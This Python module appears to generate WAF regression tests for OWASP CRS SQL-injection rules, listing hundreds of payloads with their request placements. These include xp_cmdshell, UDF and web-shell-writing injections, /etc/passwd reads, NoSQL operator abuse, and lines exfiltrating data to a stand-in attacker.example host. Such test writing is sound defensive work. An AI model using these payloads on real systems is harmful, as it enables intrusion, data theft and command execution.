"""Blind set "ninetyseventh": a tenth author's positive regression tests for the CRS 3.3.4 SQL-injection request
rules at paranoia levels 1 and 2 (and the SQLi titles CRS 4.x added), written from the rule titles alone, with a
benign half that carries the same words innocently.

Angle: for each detection title, the canonical attack it names, then one test per alternative of its family (every
keyword, function, operator, comment form, file or dialect this author knows: MySQL, MariaDB, MSSQL, Postgres,
Oracle, SQLite, MS Access, MongoDB), favouring what other authors forget (the less famous functions and keywords,
the shortest probing forms), then the variants a rule must still catch: other quoting, casing, whitespace and
comment substitutes, concatenation, and encodings a server decodes (double URL encoding, HTML entities, unicode
escapes in JSON).

Family: sqli only. Sub-families, one per title (kebab-case from the title): libinjection-sqli, common-db-names,
sleep-benchmark, conditional-sleep-benchmark, mssql-exec-info-gathering, integer-overflow-magic-number,
conditional-sqli, charset-switch-mssql-dos, match-against-merge-execute-immediate, basic-union-select-from,
pg-sleep-waitfor-shutdown, mongodb-nosqli, stored-procedure-function, udf-data-structure-manipulation,
concatenated-sqli-sqllfi, mysql-inline-comment, common-injection-testing, sql-operator, sql-tautology,
sqli-function-call, auth-bypass-1, comment-space-obfuscation-backtick, chained-sqli-1, auth-bypass-2,
comments-conditions-char, chained-sqli-2, classic-probing-1, auth-bypass-3, alter-union-keyword,
classic-probing-2, having-exists-execute, boolean-chain, and-comparison, sqli-function-names, sqli-known-keywords,
sqli-statement-shapes, special-char-anomaly, sql-comment-sequence, sql-hex-encoding, tick-backtick-bypass, and
the 4.x titles json-sqli, mysql-scientific-notation, auth-bypass-split-query, auth-bypass-4.

Placements: each payload is sent twice. Once to our real routes, rotating over the query of /api/users, the form of
/admin/users/search (with csrf_token), the JSON of /api/users, a cookie, User-Agent, Referer, another header
(X-Tenant-Id), a parameter name, an XML body of /api/users, a multipart field or filename of /admin/users/import and
the URL path under /api/users/. Once the way a WAF's regression suite sends it ("rs-" placements): to paths that
are not our routes (/, /index.php, /get, /post, /search, /api/v1/items, /cgi-bin/test.cgi) with arbitrary parameter
names, as a query string, a form body, a JSON body, an XML body, a raw form-typed body that is not key=value, or in
the User-Agent, Referer, a custom header or a cookie. MongoDB operator keys go into parameter names; payloads with
unicode escapes go only into JSON bodies, raw.

Authorship and independence: every payload and benign text was written from general knowledge of SQL injection
and from the rule titles alone; no ruleset, rule file, regression test, public payload list or other blind set was
read. The set was measured once through the real stack on unchanged code, and not edited after the measurement.
Deterministic: no clock, no randomness.
"""

from __future__ import annotations

import urllib.parse
from collections.abc import Iterator
from typing import Any
from xml.sax.saxutils import escape

from .family_gen import UA, _form, _get, _json, _query
from .family_gen_blind_php import chat_and_bio, links_and_prose
from .records import numbered, print_records

NAME = "ninetyseventh"

# A payload is a string (any placement) or (string, mode): "json-u" is the text of a JSON string literal with
# unicode escapes (sent raw inside a JSON body), "name" is a parameter name (an operator key), "doc" a whole JSON
# document.
Entry = str | tuple[str, str]

TITLES: list[tuple[str, list[Entry]]] = [
    ("libinjection-sqli", [
        "1' OR '1'='1",
        "1 oR 2>1",
        "' UNION SELECT NULL,NULL--",
        "-1 union all select user(),2",
        "admin'--",
        "1;DROP TABLE users",
        "' or ''='",
        "1' AND extractvalue(1,concat(0x7e,version()))-- -",
        "1' waitfor delay '0:0:5'--",
        "x') or ('a'='a",
        "1%27%20AND%20%27a%27%3D%27a",
        "1&#39; OR 1=1-- -",
        ("1\\u0027 or \\u00271\\u0027=\\u00271", "json-u"),
        "\"-\"",
    ]),
    ("common-db-names", [
        "1 UNION SELECT table_name FROM information_schema.tables",
        "' union select name from master..sysdatabases--",
        "1 union select user,authentication_string from mysql.user",
        "1 union select host from mysql.db",
        "' union select Name from MSysObjects--",
        "1 UNION SELECT * FROM MSysAccessObjects",
        "' and 1=(select count(*) from MSysQueries)--",
        "' union select tbl_name from sqlite_master--",
        "' union select sql from sqlite_temp_master--",
        "1 union select relname from pg_catalog.pg_class",
        "1;select * from tempdb..sysobjects--",
        "' and 1=(select count(*) from northwind..orders)--",
        "1/**/union/**/select/**/column_name/**/from/**/INFORMATION_SCHEMA.COLUMNS",
        "' union select schema_name from `information_schema`.schemata#",
    ]),
    ("sleep-benchmark", [
        "1' AND SLEEP(5)-- -",
        "sleep(10)#",
        "1 or sleep(5)",
        "'XOR(if(now()=sysdate(),sleep(5),0))XOR'",
        "1 AND BENCHMARK(5000000,MD5(1))",
        "benchmark(10000000,sha1('a'))",
        "SLEEP/**/(5)",
        "1'+(select*from(select(sleep(20)))a)+'",
        "sLeEp ( 3 )",
        "1%27%20and%20sleep(5)%23",
        ("1 and sleep\\u00285\\u0029", "json-u"),
        "0\"XOR(if(1,sleep(6),0))XOR\"Z",
        "1 AND (SELECT 1 FROM (SELECT SLEEP(5))x)",
    ]),
    ("conditional-sleep-benchmark", [
        "SELECT IF(1=1,SLEEP(5),0)",
        "1;select benchmark(1000000,md5('x'))",
        "'; SELECT SLEEP(5)-- ",
        "1 AND IF(SUBSTRING(version(),1,1)='5',BENCHMARK(1000000,MD5(1)),0)",
        "1 UNION SELECT IF(1=1,BENCHMARK(5000000,SHA1(1)),NULL)",
        "1 AND (CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END)",
        "1 AND ELT(1=1,SLEEP(5))",
        "1 RLIKE (SELECT IF(1=1,SLEEP(5),1))",
        "select/**/sleep(5)",
        "1;SELECT IF(ASCII(MID(USER(),1,1))>64,SLEEP(3),0)",
        "';select  if ( (1) , sleep(2) , 0 )#",
        "1 and (select 1 from dual where 1=1 and sleep(4))",
    ]),
    ("mssql-exec-info-gathering", [
        "'; exec master..xp_cmdshell 'ping 10.0.0.1'--",
        "1;EXEC xp_cmdshell 'whoami'",
        "'; exec sp_configure 'show advanced options',1;reconfigure--",
        "1 union select @@version--",
        "' union select 1,@@servername--",
        "1; exec xp_regread 'HKEY_LOCAL_MACHINE','SOFTWARE\\Microsoft\\MSSQLServer','x'",
        "'; exec master..xp_dirtree '\\\\attacker.example\\x'--",
        "1; declare @o int; exec sp_oacreate 'wscript.shell',@o out--",
        "'; EXEC sp_executesql N'select 1'--",
        "'; select * from openrowset('SQLOLEDB','';'sa';'','select 1')--",
        "'; exec master.dbo.xp_fileexist 'c:\\boot.ini'--",
        "1 and 1=convert(int,@@version)--",
        "'; exec xp_servicecontrol 'start','schedule'--",
        "1;eXeC/**/xp_cmdshell/**/'dir'",
    ]),
    ("integer-overflow-magic-number", [
        "2147483648",
        "-2147483649",
        "4294967295",
        "4294967296",
        "18446744073709551615",
        "9223372036854775808",
        "2.2250738585072011e-308",
        "2.2250738585072012e-308",
        "3.0.00738585072007e-308",
        "0.00022250738585072011e-304",
        "22.250738585072011e-309",
        "1e309",
    ]),
    ("conditional-sqli", [
        "1 AND (CASE WHEN (1=1) THEN 1 ELSE 1/0 END)=1",
        "' or case when 1=1 then 1 else 0 end--",
        "1 and if(1=1,1,0)",
        "(case when (substring(user,1,1)='a') then 1 else 0 end)",
        "1 AND IIF(1=1,1,0)=1",
        "1 AND DECODE(1,1,1,0)=1",
        "' and ifnull(ascii(substr(database(),1,1)),0)>100--",
        "1 and nullif(1,1) is null",
        "'+(case when 1=1 then 'a' else 'b' end)+'",
        "1 order by (case when (1=1) then 1 else (select 1 union select 2) end)",
        "1' AND CHOOSE(1,1,0)=1--",
        "1 and IF(ord(mid(user(),1,1))>100,1,0)",
    ]),
    ("charset-switch-mssql-dos", [
        "1; ALTER DATABASE test CHARACTER SET gbk",
        "'; alter table users convert to character set latin1--",
        "1;alter table x modify name varchar(99) char set big5",
        "'; waitfor delay '0:0:30'--",
        "1'; WAITFOR TIME '23:59:59'--",
        "\";waitfor delay \"00:00:10\"--",
        "';lbl: goto lbl--",
        "'; x: goto x--",
        "1; SET NAMES gbk; SELECT 1",
        "'; alter database db character set utf8mb4 collate utf8mb4_bin;--",
        "'; while 1=1 begin select 1 end--",
        "1'; ALTER SCHEMA s DEFAULT CHARACTER SET sjis--",
    ]),
    ("match-against-merge-execute-immediate", [
        "1' AND MATCH(title) AGAINST('+a*' IN BOOLEAN MODE)--",
        "' or match (username,email) against ('admin')#",
        "1 union select 1 from articles where match(body) against ('x' with query expansion)",
        "'||MATCH(a)AGAINST('b')||'",
        "'; MERGE INTO users u USING (SELECT 1 id FROM dual) s ON (u.id=s.id) "
        "WHEN MATCHED THEN UPDATE SET role='admin'--",
        "1;merge users using x on 1=1 when not matched then insert values(1)--",
        "'; BEGIN EXECUTE IMMEDIATE 'DROP TABLE users'; END;--",
        "begin execute immediate 'grant dba to scott'; end;",
        "EXECUTE   IMMEDIATE 'select 1 from dual'",
        "execute immediate q'[select 1 from dual]'",
        "1 and match(x) against(0x61)",
        "';MERGE/**/INTO t USING s ON (1=1) WHEN MATCHED THEN DELETE--",
    ]),
    ("basic-union-select-from", [
        "1 union select password from users",
        "' UNION ALL SELECT username,password FROM users--",
        "-1 union select 1,2,3 from dual",
        "1 UnIoN SeLeCt null from dual--",
        "' union select banner from v$version--",
        "1 union distinct select name from sysobjects",
        "1 union select 1 from all_tables where rownum=1--",
        "1%20union%20select%20banner%20from%20v%24version",
        "1 UNION\tSELECT a FROM b",
        "'union select group_concat(table_name) from information_schema.tables#",
        "0 union all select top 1 name from sysobjects--",
        "1 union select username||':'||password from dba_users--",
    ]),
    ("pg-sleep-waitfor-shutdown", [
        "1;select pg_sleep(10)--",
        "' || pg_sleep(5)--",
        "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
        "1);select pg_sleep(3)--",
        "';SELECT pg_sleep_for('5 seconds')--",
        "';select pg_sleep_until(now()+'5 sec')--",
        "'; waitfor delay '0:0:5'--",
        "1;WAITFOR DELAY '00:00:10'",
        "1 waitfor time '00:00'",
        "'; shutdown with nowait--",
        "1;SHUTDOWN--",
        "'; shutdown;--",
        "1 and 1=dbms_pipe.receive_message(('a'),10)",
        "PG_SLEEP (5)",
    ]),
    ("mongodb-nosqli", [
        ("username[$ne]", "name"),
        ("password[$gt]", "name"),
        ("user[$regex]", "name"),
        ("id[$in][]", "name"),
        ("login[$nin][]", "name"),
        ("token[$exists]", "name"),
        ("q[$where]", "name"),
        ("filter[$or][0][role]", "name"),
        ("{\"username\":{\"$ne\":null},\"pin\":{\"$ne\":null}}", "doc"),
        ("{\"$where\":\"sleep(5000)\"}", "doc"),
        ("{\"user\":{\"$regex\":\".*\"},\"pin\":{\"$gte\":\"\"}}", "doc"),
        ("{\"age\":{\"$lte\":99},\"$expr\":{\"$function\":{\"body\":\"function(){sleep(1000)}\","
         "\"args\":[],\"lang\":\"js\"}}}", "doc"),
        "'; return true; var x='",
        "[$ne]=1",
    ]),
    ("stored-procedure-function", [
        "'; CREATE PROCEDURE p() BEGIN SELECT 1; END--",
        "1; create procedure x() -- ",
        "1;CREATE OR REPLACE FUNCTION f() RETURNS int AS $$ SELECT 1 $$ LANGUAGE sql;--",
        "'; CREATE FUNCTION system(cstring) RETURNS int AS '/lib/x86_64-linux-gnu/libc.so.6','system' "
        "LANGUAGE C STRICT;--",
        "1; DECLARE @s varchar(200) SET @s=0x73656c656374 EXEC(@s)--",
        "';declare @x nvarchar(99);select @x='select 1';exec (@x)--",
        "exec(@cmd)",
        "EXEC ( @q )",
        "'; DO $$ BEGIN PERFORM pg_sleep(1); END $$;--",
        "1;copy cmd_exec from program 'id'--",
        "'; call mysql.p()--",
        "1; select lo_import('/etc/passwd')",
        "'; declare #t cursor for select 1--",
    ]),
    ("udf-data-structure-manipulation", [
        "'; CREATE FUNCTION sys_exec RETURNS integer SONAME 'lib_mysqludf_sys.so'--",
        "1;create function do_system returns integer soname 'raptor_udf2.so';",
        "; drop table users--",
        "1; truncate table logs",
        "'; update users set is_admin=1 where id=1--",
        "1;insert into users(name,role) values('x','admin')",
        "'; delete from sessions--",
        "; rename table users to users_old",
        "1; alter table users add column x int",
        "'; load data infile '/etc/passwd' into table t--",
        "1;desc users",
        "; create table pwn(x text)",
        "1; select load_file('/etc/passwd')",
        "';drop/**/table users",
    ]),
    ("concatenated-sqli-sqllfi", [
        "1' union select 1--",
        "'; select * from users",
        "\"); delete from users",
        "' union select load_file(0x2f6574632f706173737764)--",
        "1 union select '<?php system($_GET[c]);?>' into outfile '/var/www/html/x.php'",
        "1 into dumpfile '/tmp/x.so'",
        "-1 UNION SELECT LOAD_FILE('C:\\\\Windows\\\\win.ini')",
        "');drop table users;--",
        "1;alter user root identified by 'x'",
        "'||(select load_file(concat('\\\\\\\\',version(),'.attacker.example\\\\a')))||'",
        ")) union select 1,2--",
        "\"'); select pg_read_file('/etc/passwd')--",
        "1 AND 1=(SELECT LENGTH(LOAD_FILE('/etc/passwd')))",
    ]),
    ("mysql-inline-comment", [
        "1 /*!UNION*/ /*!SELECT*/ 1,2",
        "/*!50000union*/",
        "1/*!12345UNION SELECT*/1",
        "' /*!or*/ 1=1-- -",
        "1/*!00000AND*/2>1",
        "/*!32302 1/0, */ 1",
        "SELECT/*!40101 SQL_NO_CACHE*/1",
        "/*!50000%55nIoN*/ /*!50000%53eLeCt*/",
        "%2F%2A%21union%2A%2F",
        "/*!50000select*/ password from users",
        "1 /*!UnIoN*/+/*!SeLeCt*/+1",
        "/*!sleep(5)*/",
        "/*!*/",
    ]),
]
TITLES += [
    ("common-injection-testing", [
        "'",
        "\"",
        "1'",
        "test\"",
        "';",
        "`",
        "admin'",
        "''",
        "\";",
        "%27",
        "john''",
        ";'",
        "  '",
        ("\\u0027", "json-u"),
    ]),
    ("sql-operator", [
        "1 RLIKE 0x5e",
        "1' regexp '^a",
        "admin' AND pass LIKE 'a%",
        "1 xor 1",
        "x' sounds like 'x",
        "1 <=> 1",
        "a' NOT LIKE 'b",
        "1 not between 0 and 2",
        "1 isnull",
        "1 div 1",
        "name GLOB 'a*'",
        "'a' SIMILAR TO 'a'",
        "1 ~* 'a'",
        "x' like binary 'A",
    ]),
    ("sql-tautology", [
        "' or 'x'='x",
        "1 OR 1=1",
        "\" or \"a\"=\"a",
        "') or ('1'='1",
        "1 or 2 != 3",
        "' or 1 like 1--",
        "1 or 'a' <> 'b'",
        "1' or 3>2-- -",
        "x' or 1 regexp 1#",
        "1 or 5<=>5",
        "' OR 'abc' LIKE 'abc",
        "1 or 0x41=0x41",
        "x' OR 'b' is not 'a",
        "1%27%20or%20%27x%27%3D%27x",
    ]),
    ("sqli-function-call", [
        "1 and ascii(substring(user(),1,1))>64",
        "' and length(database())>1--",
        "1 and ord(mid(version(),1,1))=53",
        "1 and hex(user())",
        "' or unhex('41')='A",
        "1 and conv(10,10,36)",
        "1' and instr(version(),'5')#",
        "1 and locate('a',user())",
        "'||chr(65)||'",
        "1 and utl_inaddr.get_host_name((select user from dual)) is null",
        "1 and updatexml(1,concat(0x7e,version()),1)",
        "1 and geometrycollection((select * from (select user())a))",
        "1' and soundex('a')='A000",
        "1 and exp(~(select * from (select user())x))",
    ]),
    ("auth-bypass-1", [
        "admin'--",
        "admin' #",
        "' or 1=1 limit 1 -- -+",
        "admin')--",
        "\" or \"\"=\"",
        "' or true--",
        "'-'",
        "'&'",
        "'^'",
        "'*'",
        "'-||0'",
        "admin' or '1'='1'/*",
        "'||1#",
        "1' or 1 between 0 and 2--",
    ]),
    ("comment-space-obfuscation-backtick", [
        "1/**/union/**/select/**/1",
        "1'/**/or/**/1=1#",
        "select(password)from(users)",
        "1 or(1)=(1)",
        "1'||(select(1))#",
        "admin`#",
        "1/*trash*/and/*junk*/2>1",
        "union(select(1),(2))",
        "1-- -",
        "SELECT `password` FROM `users`",
        "x`) or 1=1-- ",
        "1%0Aunion%0Aselect%0A1",
        "'or/**/1#",
    ]),
    ("chained-sqli-1", [
        "1 && id=1 --",
        "x' || a != 'b",
        "1 between 1 and 2-1",
        "1 group by concat(user(),floor(rand(0)*2))",
        "1'-- drop table users",
        "1'# alter table x",
        "; update users set x=1",
        "@a:=(select password from users limit 1)",
        "1; SET @x=1",
        "1 and a=1'",
        "1 xor 2 - 1",
        "/x; select 1",
        "1' ; insert into log values(1)",
    ]),
    ("auth-bypass-2", [
        "' and 1=1 having 1=1--",
        "' or username like '%",
        "' like 'a",
        "admin'%20or%20'1'%3D'1",
        "\" or a=a having 1 ",
        "' union select 'admin','x",
        "') order by if(1,1,0)",
        "'*1 or '1",
        "' || username='admin",
        "' having 1=1--",
        "'=''or'",
        "\" && 1=1 -- ",
        "admin&#39; or &#39;1&#39;=&#39;1",
    ]),
    ("comments-conditions-char", [
        "1 and char(97)=char(97)",
        "' or chr(65)||chr(66)='AB",
        "1) and ('a')=('a",
        "') or char(49)=char(49)#",
        "1' and mid(user(),1,1)=char(114)--",
        "concat(char(60),char(63))",
        "1 or 1=1#",
        "' or 1--",
        "1) or (1)=(1)-- ",
        "' and NCHAR(65)=N'A'--",
        "' and ascii(x)=char(97) /*",
        "1 and 1=1 --",
        "' or 'a'=CHAR(0x61)#",
    ]),
    ("chained-sqli-2", [
        "(select user)",
        "1 and (select password from users limit 1)='a'",
        "coalesce(null,user())",
        "1 order by if(1=1,1,2)",
        "/*foo*/from users",
        "1+1+@@version",
        "abc'||'def",
        "@var or 1",
        "@@version and '1",
        "1' || 'a",
        "select 1 from tables where table_name='x'",
        "x'- 1",
        "(select/**/database())",
    ]),
    ("classic-probing-1", [
        "' or 1",
        "\" and 1",
        "' like \"1",
        r"\x27 or 1",
        r"\x3d",
        "'='",
        "\"=\"",
        "x\" xor \"1",
        "' div 1",
        "a' between 1 and 2",
        "\"or\"1",
        r"\x23",
        "1\" or ",
    ]),
    ("auth-bypass-3", [
        "1 in (select id from users)",
        "' or id in(select 1)--",
        "1 and 1 in ((select user))",
        "' or 0x50=0x50--",
        "' OR 1 IN (SELECT @@version)--",
        "1' and 1 like 1",
        "admin' or 1=1 and '1",
        "1 or 1 'x'",
        "' and 1 not in (select 0)--",
        "x' && 2 'y",
        "' or 1 group by 1--",
        "1 IN  (  SELECT  name FROM sysobjects)",
    ]),
    ("alter-union-keyword", [
        "1 union select 1",
        "' union all select null--",
        "-1 UNION SELECT",
        "') union select",
        "1' alter table users drop column x",
        "\"; alter user admin",
        "9999 union distinct select",
        "'union(select(1))",
        "1%20UNION%20SELECT%201",
        ")) UNION ALL",
        "' alter database x",
        "0 union/**/select",
    ]),
    ("classic-probing-2", [
        "'*'",
        "'))-- ",
        "'^'",
        "\"^\"",
        "'); --",
        "' || 'a' -- ",
        "'-1#",
        "'*3",
        "'  ; --",
        "x'*1 and '1'='1",
        "')/*",
        "\" or user like \"a1",
        "1'*1#",
    ]),
    ("having-exists-execute", [
        "1 having 1=1",
        "' having '1'='1",
        "execute(@q)",
        "1;execute master.dbo.sp_who(",
        "1;create table t(x int)",
        "' or name like char(37)--",
        "(select case when 1=1 then 1 else 0 end)",
        "1 from users limit 1",
        "1 order by 5--",
        "' and exists(select * from users)--",
        "1 and exists (select top 1 name from sysobjects)",
        "1 group by 1 having 1>0",
        "EXECUTE sp_executesql(",
    ]),
    ("boolean-chain", [
        "1 or 1=1",
        "x' or 2>1",
        "1 xor 1=1",
        "1 and 'a'='a'",
        "1 or id=id",
        "' or \"abc\"<\"abd\"",
        "1 xor 2<3",
        "' and 7>=7--",
        "x or 1<>2",
        "1 or 'x'='x'",
        "1 OR\t3=3",
        "a' or b=b--",
    ]),
    ("and-comparison", [
        "1 and 1=1",
        "1 AND 5>3",
        "' and 'a'='a",
        "1 and 2<3",
        "\" and \"x\"<>\"y",
        "x' AND 1=2--",
        "1 and 31337=31337",
        "1 and 0<1",
        "1 anD 3>=2",
        "and 'b'='b'",
        "1%20and%201%3D1",
    ]),
    ("sqli-function-names", [
        "1 and connection_id()=1",
        "1 union select group_concat(table_name)",
        "1 and crc32(user())",
        "' and make_set(1,version())--",
        "1 and export_set(5,'Y','N')",
        "' and name_const(version(),1)--",
        "1 and is_free_lock('x')",
        "1 and master_pos_wait('a',1)",
        "1 and found_rows()",
        "' and substring_index(user(),'@',1)='root",
        "1 and weight_string(user())",
        "1 and inet_aton('1.2.3.4')",
        "1 and aes_decrypt(unhex('aa'),'k')",
        "1 and last_insert_id()",
    ]),
    ("sqli-known-keywords", [
        "1; exec sp_addlogin 'x','y'--",
        "'; exec sp_addsrvrolemember 'x','sysadmin'--",
        "1; exec master..sp_makewebtask '\\\\x\\a.html','select 1'--",
        "' and 1=(select count(*) from sysprocesses)--",
        "'; select * from opendatasource('SQLOLEDB','Data Source=x;User ID=sa').master.dbo.sysdatabases--",
        "1 union select * from openquery(linked,'select 1')",
        "' and 1=utl_http.request('http://attacker.example/'||user)--",
        "1 and dbms_pipe.receive_message('a',5)=1",
        "' || dbms_java.runjava('x')||'",
        "1 and sys_context('USERENV','CURRENT_USER')='x'",
        "declare pragma autonomous_transaction; begin execute immediate 'x'; end;",
        "1 union select name from sysobjects where xtype='U'--",
        "'; exec sp_password--",
        "1 and 1=(select top 1 name from sysusers)--",
    ]),
    ("sqli-statement-shapes", [
        "1 group by x having 1=1",
        "overlay(password placing 'a' from 1)",
        "cast(version() as int)",
        "' and 1=dbms_utility.sqlid_to_sqlhash((select user from dual))--",
        "1; delete from users",
        "'; insert into admins values(1)--",
        "1 and is_srvrolemember('sysadmin')=1",
        "select count(*) from users",
        "' and 1=(select top 1 name from sysobjects)--",
        "select password from users where id=1",
        "select data_type from information_schema.columns",
        "'||utl_inaddr.get_host_address('x')||'",
        "'; update users set role='admin'--",
        "1 and user_lock.sleep(5)=1",
    ]),
    ("special-char-anomaly", [
        "'))))))))))))--",
        "1'\"'\"'\"'\"'\"'\"'\"'\"",
        "((((((((((((1))))))))))))",
        "';;;;;;;;;;;;;;--",
        "'\"`)(;--#/**/*/@@~!",
        "1'||'a'||'b'||'c'||'d'||'e'",
        "{{{{{{{{{{{{}}}}}}}}}}}}",
        "@@@@@@@@@@@@@@",
        "1'))) or ((('a'='a')))--",
        "'-'-'-'-'-'-'-'",
        "<><><><><><><>",
        "$$$$$$$$$$$$$",
    ]),
    ("sql-comment-sequence", [
        "admin'--",
        "1;--",
        "1 -- ",
        "x/*",
        "*/",
        "1--+-",
        "'# ",
        "1/*comment*/",
        "value;--",
        "1 --x-",
        "admin'#\t",
        "%2D%2D%20",
        "1 /*! 1*/",
    ]),
    ("sql-hex-encoding", [
        "0x61646d696e",
        "1 union select 0x3c3f706870",
        "SELECT X'41424344'",
        "x'5c27'",
        "0X2F6574632F706173737764",
        "0x4141",
        "1 and user()=0x726f6f74",
        "0x7e7e7e7e",
        "'||0x6162636465||'",
        "unhex(0x4142)",
        "1 and 0xDEADBEEF",
        "0x27206f7220313d31",
    ]),
    ("tick-backtick-bypass", [
        "admin`",
        "`or 1=1",
        "\u00b4 or 1=1--",
        "\u2019 or \u20181\u2019=\u20181",
        "\u2018",
        "admin\u00b4--",
        "`",
        "1\u2019",
        "\u2019 OR 1=1#",
        "%C2%B4",
        ("\\u00b4 or 1=1", "json-u"),
        ("\\u2019 or \\u20181\\u2019=\\u20181", "json-u"),
        "` union select 1",
    ]),
    ("json-sqli", [
        "' or '{\"a\":2}'::jsonb @> '{\"a\":1}'::jsonb--",
        "1 or json_extract('{\"a\":1}','$.a')=1",
        "'or JSON_LENGTH(\"{}\") <= 8896 union select @@version#",
        "1 and '{\"a\":2}' -> '$.a' = 2",
        "' or jsonb_typeof('{}')='object'--",
        "1 or '[1]'::jsonb ? '1'",
        "1 and json_valid('{}')",
        "' or JSON_CONTAINS('[1]','1')#",
        "1 or '{\"b\":2}'->>'b' = '2'",
        "x' or json_array_length('[1]')=1--",
        "1 and JSON_KEYS('{\"a\":1}') is not null",
        "' or '{}' <@ '{\"x\":1}'--",
    ]),
    ("mysql-scientific-notation", [
        "1.e(concat(0x41))",
        "0.e(select 1)",
        "1.e,user()",
        "' or 1.e('1')='1",
        "1.e)union select 1",
        "1.e(ascii(substr(user(),1,1)))>64",
        "2.e(1)",
        "1e0union select 1",
        "1.E(0x41)",
        "'1.e(current_user)",
        "1.e(@@version)",
    ]),
    ("auth-bypass-split-query", [
        "admin';",
        "x\"; --",
        "1';",
        "user' ;",
        "admin`;",
        "abc' 1;",
        "admin'; select 1",
        "\"';",
        "' ;shutdown",
        "bob\" 42;",
        "admin%27%3B",
    ]),
    ("auth-bypass-4", [
        "admin' is not null--",
        "' not like 'x",
        "' mod 2 --",
        "' % 1#",
        "\"*\"",
        "' not in ('a')--",
        "' not between 1 and 2",
        "' sounds like 'a",
        "'<>'x",
        "' not regexp 'z",
        "'/1#",
        "'+0#",
        "' not glob 'b*",
        "' not null",
    ]),
]

OURS = ["query", "form", "json", "cookie", "header:User-Agent", "header:Referer", "header:X-Tenant-Id",
        "param-name", "xml", "multipart-field", "multipart-filename", "path"]
RS = ["rs-query", "rs-form", "rs-json", "rs-xml", "rs-raw-body", "rs-header:User-Agent", "rs-header:Referer",
      "rs-header:X-Custom-Header", "rs-cookie", "rs-query", "rs-form"]
OUR_NAMES = ["id", "q", "sort", "filter", "email", "name", "search", "order"]
RS_PATHS = ["/", "/index.php", "/get", "/post", "/search", "/api/v1/items", "/cgi-bin/test.cgi"]
RS_NAMES = ["foo", "var", "x", "test", "id", "arg1"]
BOUNDARY = "----WebKitFormBoundary7MA4YWxkTrZu0gW"


def _headers(extra: dict[str, str] | None = None) -> dict[str, str]:
    return {"User-Agent": UA, "Accept": "*/*", **(extra or {})}


def _multipart(uri: str, parts: list[tuple[str, str | None, str]]) -> dict[str, Any]:
    """A multipart/form-data POST: each part (field name, file name or None, value)."""
    chunks = []
    for field, filename, value in parts:
        disp = f'form-data; name="{field}"'
        if filename is not None:
            disp += f'; filename="{filename}"'
        ctype = "\r\nContent-Type: text/plain" if filename is not None else ""
        chunks.append(f"--{BOUNDARY}\r\nContent-Disposition: {disp}{ctype}\r\n\r\n{value}\r\n")
    body = "".join(chunks) + f"--{BOUNDARY}--\r\n"
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"})}


def _raw_json(uri: str, body: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": body,
            "headers": _headers({"Content-Type": "application/json"})}


def _xml(uri: str, body: str) -> dict[str, Any]:
    return {"method": "POST", "uri": uri, "body": body, "headers": _headers({"Content-Type": "application/xml"})}


def _one_line(value: str) -> str:
    return value.replace("\r", " ").replace("\n", " ").replace("\x00", "")


def ours(place: str, k: int, p: str) -> dict[str, Any]:
    """The payload p in one of our real routes' input places."""
    name = OUR_NAMES[k % len(OUR_NAMES)]
    if place == "query":
        return _get(_query("/api/users", [(name, p), ("page", "1")]))
    if place == "form":
        return _form("/admin/users/search", [("csrf_token", "t0k3n"), (name, p)])
    if place == "json":
        return _json("/api/users", {"email": "ann@example.org", name: p})
    if place == "cookie":
        return {**_get("/api/users?page=1"), "headers": _headers(
            {"Cookie": "session=abc123; " + name + "=" + urllib.parse.quote(p, safe="")})}
    if place == "header:User-Agent":
        return {**_get("/api/users?page=2"), "headers": {"User-Agent": _one_line(p), "Accept": "*/*"}}
    if place == "header:Referer":
        return {**_get("/api/users/42"), "headers": _headers(
            {"Referer": "https://www.example.org/products.php?" + name + "=" + _one_line(p)})}
    if place == "header:X-Tenant-Id":
        return {**_get("/api/users?page=1"), "headers": _headers({"X-Tenant-Id": _one_line(p)})}
    if place == "param-name":
        return _get("/api/users?" + urllib.parse.quote(p, safe="[]$") + "=1&page=1")
    if place == "xml":
        return _xml("/api/users", f"<?xml version=\"1.0\"?><user><name>{escape(p)}</name>"
                                  "<email>ann@example.org</email></user>")
    if place == "multipart-field":
        return _multipart("/admin/users/import", [("csrf_token", None, "t0k3n"), (name, None, p)])
    if place == "multipart-filename":
        fn = _one_line(p).replace('"', "%22")
        return _multipart("/admin/users/import", [("csrf_token", None, "t0k3n"), ("file", fn, "id,name\n1,Ann\n")])
    if place == "path":
        return _get("/api/users/" + urllib.parse.quote(p, safe=""))
    raise ValueError(place)


def rs(place: str, k: int, p: str) -> dict[str, Any]:
    """The payload p the way a WAF regression suite sends it, to a path that is not our route."""
    path = RS_PATHS[k % len(RS_PATHS)]
    name = RS_NAMES[k % len(RS_NAMES)]
    if place == "rs-query":
        return _get(_query(path, [(name, p)]))
    if place == "rs-form":
        return _form(path, [(name, p)])
    if place == "rs-json":
        return _json(path, {name: p})
    if place == "rs-xml":
        return _xml(path, f"<?xml version=\"1.0\"?><root><{name}>{escape(p)}</{name}></root>")
    if place == "rs-raw-body":
        return {"method": "POST", "uri": path, "body": p,
                "headers": _headers({"Content-Type": "application/x-www-form-urlencoded"})}
    if place == "rs-header:User-Agent":
        return {**_get(path), "headers": {"User-Agent": _one_line(p), "Accept": "*/*"}}
    if place == "rs-header:Referer":
        return {**_get(path), "headers": _headers({"Referer": _one_line(p)})}
    if place == "rs-header:X-Custom-Header":
        return {**_get(path), "headers": _headers({"X-Custom-Header": _one_line(p)})}
    if place == "rs-cookie":
        return {**_get(path), "headers": _headers({"Cookie": name + "=" + urllib.parse.quote(p, safe="'()*!@")})}
    raise ValueError(place)


def _json_u(uri: str, name: str, literal: str) -> dict[str, Any]:
    """A JSON body whose string value is written with unicode escapes (the text of the literal, sent raw)."""
    return _raw_json(uri, "{\"" + name + "\": \"" + literal + "\"}")


def _placed(entry: Entry, k: int) -> list[tuple[str, str, dict[str, Any]]]:
    """The two requests of the k-th payload: (placement, payload as recorded, request)."""
    if isinstance(entry, str):
        p = entry
        return [(OURS[k % len(OURS)], p, ours(OURS[k % len(OURS)], k, p)),
                (RS[k % len(RS)], p, rs(RS[k % len(RS)], k, p))]
    p, mode = entry
    path = RS_PATHS[k % len(RS_PATHS)]
    if mode == "json-u":
        return [("json", p, _json_u("/api/users", OUR_NAMES[k % len(OUR_NAMES)], p)),
                ("rs-json", p, _json_u(path, RS_NAMES[k % len(RS_NAMES)], p))]
    if mode == "name":
